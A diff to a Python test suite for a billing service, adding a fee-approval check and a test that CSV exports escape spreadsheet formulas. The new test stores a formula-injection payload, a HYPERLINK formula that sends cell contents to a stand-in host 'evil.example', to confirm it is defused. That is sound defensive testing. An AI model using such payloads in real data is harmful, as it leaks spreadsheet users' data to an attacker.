@@ -320,6 +320,11 @@ def test_tickets_charge_the_unit_once(stack):
     _ticket_act(stack, pid, t["id"], adm, "assign", assignee_id=tech["id"])
     _ticket_act(stack, pid, t["id"], ttok, "start")
     _ticket_act(stack, pid, t["id"], ttok, "resolve", note="换阀门", fee={"amount": 8800, "fee_item_code": "REPAIR"})
+    # a technician's fee is only proposed: billing charges nothing until a manager approves it
+    time.sleep(1.5)
+    assert _count(stack, "SELECT count(*) FROM billing.bills WHERE source = 'ticket.fee_charged'"
+                         " AND unit_id = '%s'" % uid) == 0
+    _ticket_act(stack, pid, t["id"], adm, "approve_fee")
     _wait(stack, "SELECT count(*) FROM billing.bills WHERE source = 'ticket.fee_charged' AND unit_id = '%s'" % uid,
           "1")
     # the unit had 1234 fen of credit (the integration key's payment): it pays part of the repair
@@ -613,3 +618,29 @@ def test_bad_input_records_nothing(stack):
     assert [u["unit_code"] for u in r["reconciliation"]["unmatched"]] == [fcode], r
     assert _count(stack, "SELECT count(*) FROM billing.payments WHERE external_ref = '王五,物业费'") == 1
     assert counts()[0] == before[0] + 1, (counts(), before)
+
+
+def test_csv_exports_defuse_formulas(stack):
+    """Issue G: a cell that starts like a formula (= + - @, a tab, a CR) is
+    written with a leading ', so a spreadsheet shows it as text; numbers,
+    negative amounts included, stay numbers."""
+    pid, uid = STATE["pid"], STATE["units"][0]
+    ref = '=HYPERLINK("http://evil.example/x?"&A1,"Click")'
+    _pay(stack, pid, uid, 4321, method="bank_transfer", ref=ref)
+    _pay(stack, pid, uid, 1111, method="bank_transfer", ref="@SUM(1+1)")
+    period = stack.psql("SELECT to_char((now() AT TIME ZONE 'Asia/Shanghai')::date, 'YYYY-MM')")[0][0]
+    r = _admin(stack, "GET", "/v1/properties/%s/exports/payments?period=%s" % (pid, period))
+    assert r.status == 200 and r.headers["content-type"].startswith("text/csv"), r
+    text = r.body[3:].decode("utf-8")
+    assert '"\'=HYPERLINK(""http://evil.example/x?""&A1,""Click"")"' in text, text[-600:]
+    assert '"\'@SUM(1+1)"' in text, text[-600:]
+    assert ',"=HYPERLINK' not in text and ',"@SUM' not in text, "no formula left as is"
+    # the JSON export is data, not a spreadsheet: the value as stored
+    j = _ok(_admin(stack, "GET", "/v1/properties/%s/exports/payments?period=%s&format=json" % (pid, period)),
+            200, "json")
+    assert ref in {p["external_ref"] for p in j["payments"]}, "JSON keeps the value"
+    # the ledger's payments are negative amounts: still numbers, not escaped text
+    r = _admin(stack, "GET", "/v1/properties/%s/exports/ledger?period=%s" % (pid, period))
+    lines = r.body[3:].decode("utf-8").split("\r\n")
+    pays = [l for l in lines if ',"payment",' in l]
+    assert pays and all(',"-' in l and ",\"'-" not in l for l in pays), pays[:3]
